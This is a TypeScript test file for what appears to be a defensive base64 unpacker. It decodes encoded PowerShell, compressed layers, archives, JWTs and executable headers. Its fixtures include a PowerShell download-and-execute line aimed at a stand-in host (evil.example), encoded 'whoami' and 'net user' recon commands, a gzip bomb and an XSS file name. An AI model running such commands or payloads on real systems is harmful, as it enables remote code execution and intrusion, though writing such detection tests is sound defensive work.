import { deflateSync, gzipSync, zipSync, zlibSync } from "fflate";
import fc from "fast-check";
import { expect, test } from "vitest";
import { fileTypeOf } from "./file-type.js";
import { unpackBase64 } from "./unpack.js";
import { FrameStore } from "../../frame/store.js";
import { unpackBase64Column } from "./frame.js";

const bytesOf = (text: string): Uint8Array => new TextEncoder().encode(text);
const b64 = (data: string | Uint8Array): string =>
  Buffer.from(typeof data === "string" ? bytesOf(data) : data).toString("base64");
const wide = (text: string): string => Buffer.from(text, "utf16le").toString("base64");
const wrap = (text: string): string => text.replace(/.{64}/g, "$&\n");
/** A tar archive of one file. */
function tar(name: string, content: string): Uint8Array {
  const data = new Uint8Array(1536);
  data.set(bytesOf(name), 0);
  data.set(bytesOf(content.length.toString(8).padStart(11, "0")), 124);
  data[156] = 48;
  data.set(bytesOf("ustar"), 257);
  data.set(bytesOf(content), 512);
  return data;
}
const short = (text: string) =>
  unpackBase64(text).items.map(i => [i.reference, i.file_type, i.file_name, i.decoded_string]);

const command = "IEX (New-Object Net.WebClient).DownloadString('https://evil.example/a.ps1')";

test("an encoded command is UTF-16 text", () => {
  const { text, items, problems } = unpackBase64(`powershell.exe -NoP -enc ${wide(command)}`);
  expect(text).toBe(
    `powershell.exe -NoP -enc <decoded type='string' name='[None]' index='1' depth='1'>${command}</decoded>`,
  );
  expect(items).toHaveLength(1);
  expect(items[0]).toMatchObject({
    ...{ reference: "1", original_string: wide(command), file_type: "string", encoding_type: "utf-16" },
    decoded_string: command,
  });
  expect(problems).toEqual([]);
});

test("hashes are those of the decoded bytes", () => {
  const [item] = unpackBase64(b64("The quick brown fox jumps over the lazy dog")).items;
  expect(item).toMatchObject({
    md5: "9e107d9d372bb6826bd81d3542a419d6",
    sha1: "2fd4e1c67a2d28fced849ee1bb76e7391b93eb12",
    sha256: "d7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592",
    printable_bytes: expect.stringMatching(/^54 68 65 20 71 75/) as string,
  });
});

test.each([
  [`powershell -enc ${wide("whoami")}`, "whoami"],
  [`powershell -EncodedCommand "${wide("whoami")}"`, "whoami"],
  [`[Convert]::FromBase64String('${b64("net user")}')`, "net user"],
])("short ones are found where the text announces them: %s", (text, decoded) => {
  expect(unpackBase64(text).items.map(i => i.decoded_string)).toEqual([decoded]);
});

test("nested: UTF-16, then gzip, then text", () => {
  const inner = `$a = [IO.Compression.GzipStream]; '${b64(gzipSync(bytesOf(command)))}'`;
  expect(short(`powershell -e ${wide(inner)}`)).toEqual([
    ["1", "string", "", inner],
    ["1.1", "gz", "", ""],
    ["1.1.1", "string", "gzip", command],
  ]);
});

test("archives give their members", () => {
  const zip = zipSync({ "a.txt": bytesOf("hello from the archive"), "b/c.txt": bytesOf(b64(command)) });
  expect(short(wrap(b64(zip)))).toEqual([
    ["1", "zip", "", ""],
    ["1.1", "string", "a.txt", "hello from the archive"],
    ["1.2", "string", "b/c.txt", b64(command)],
    ["1.2.1", "string", "", command],
  ]);
  expect(short(b64(tar("x.txt", "inside")))).toEqual([
    ["1", "tar", "", ""],
    ["1.1", "string", "x.txt", "inside"],
  ]);
});

test("zlib is seen, raw deflate where the script speaks of it", () => {
  const content = bytesOf(command.repeat(3));
  expect(short(b64(zlibSync(content))).map(i => i[1])).toEqual(["deflate", "string"]);
  expect(short(`New-Object IO.Compression.DeflateStream('${b64(deflateSync(content))}')`).map(i => i[1])).toEqual([
    "deflate",
    "string",
  ]);
});

test("a token's parts are read", () => {
  const header = Buffer.from('{"alg":"RS256","typ":"JWT"}').toString("base64url");
  const body = Buffer.from('{"sub":"dana.reyes@contoso.example","aud":"a?b>c"}').toString("base64url");
  expect(unpackBase64(`Bearer ${header}.${body}.sig`).items.map(i => i.decoded_string)).toEqual([
    '{"alg":"RS256","typ":"JWT"}',
    '{"sub":"dana.reyes@contoso.example","aud":"a?b>c"}',
  ]);
});

test.each([
  "C:/Program/Files/Common/Microsoft/Shared/Phone/Home/Again",
  "/usr/lib/x86/linux/gnu/libsystemd/shared/modules/security",
  "ThisIsAVeryLongMethodNameThatSomebodyWroteOnce",
  "d7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592",
  "just words and nothing else in this line of text at all",
  "",
])("%j is left as it stands", text => {
  expect(unpackBase64(text)).toEqual({ text, items: [], problems: [] });
});

test("binary data is named by its first bytes", () => {
  const program = new Uint8Array(400);
  program.set([0x4d, 0x5a]);
  program[60] = 0x80;
  program.set([0x50, 0x45, 0, 0], 0x80);
  expect(fileTypeOf(program)).toBe("exe");
  program[0x80 + 23] = 0x20;
  expect(fileTypeOf(program)).toBe("dll");
  program[0x80 + 92] = 1;
  expect(fileTypeOf(program)).toBe("sys");
  expect(unpackBase64(b64(program)).text).toMatch(/^<decoded type='sys' .*>4d 5a 00.* … \(400 bytes\)<\/decoded>$/);
});

test("limits are named, never silent", () => {
  const bomb = b64(gzipSync(new Uint8Array(30_000_000)));
  expect(unpackBase64(bomb).problems).toEqual(["the gzip data is larger than 20 MB"]);
  let deep = "the innermost text of them all";
  for (let i = 0; i < 10; i += 1) deep = b64(`${deep} `);
  expect(unpackBase64(deep).problems).toEqual(["nested deeper than 8: the rest was left as it stands"]);
  const many = Array.from({ length: 30 }, (_, i) => b64(`this is the text with number ${i}`)).join(" ");
  expect(unpackBase64(many, { maxItems: 10 })).toMatchObject({
    problems: [expect.stringContaining("more than 10 pieces")],
  });
  const cut = gzipSync(new Uint8Array(1000).map((_, i) => (i * 7919) % 251)).subarray(0, 60);
  expect(unpackBase64(b64(cut)).items[0]?.file_type).toBe("gz");
});

test("hostile names and contents stay text", () => {
  const zip = zipSync({ "<img src=x onerror=alert(1)>'.txt": bytesOf("<script>alert(1)</script> here it is") });
  const { text } = unpackBase64(b64(zip));
  expect(text).toContain("name='_img src=x onerror=alert(1)__.txt'");
});

test("what text was encoded comes back", () => {
  const sentence = fc.string({ unit: "grapheme-ascii", minLength: 30, maxLength: 200 });
  fc.assert(
    fc.property(sentence, fc.boolean(), (text, isWide) => {
      fc.pre(!/[A-Za-z0-9+/_-]{20,}/.test(text));
      const encoded = isWide ? wide(text) : b64(text);
      fc.pre(!/^[0-9a-f]+$/i.test(encoded));
      expect(unpackBase64(`x ${encoded} y`).items[0]?.decoded_string).toBe(text);
    }),
  );
});

test("no text throws", () => {
  fc.assert(
    fc.property(
      fc.base64String({ maxLength: 400 }),
      fc.string({ unit: "binary" }),
      (a, b) => void unpackBase64(`${b}${a} ${b}`),
    ),
  );
});

test("a frame gives one row for each piece, and says what was left out", async () => {
  await using store = await FrameStore.open();
  const frame = await store.fromRows([
    { CommandLine: `powershell -enc ${wide(command)}` },
    { CommandLine: "cmd /c dir" },
    { CommandLine: b64(gzipSync(new Uint8Array(30_000_000))) },
  ]);
  const found = await unpackBase64Column(store, frame, "CommandLine");
  expect((await found.rows()).map(r => [r["src_index"], r["file_type"], r["decoded_string"]])).toEqual([
    [0, "string", command],
    [2, "gz", ""],
  ]);
  expect(found.completeness).toMatchObject({
    state: "partial",
    causes: [{ kind: "size-limit", message: "row 2: the gzip data is larger than 20 MB" }],
  });
});
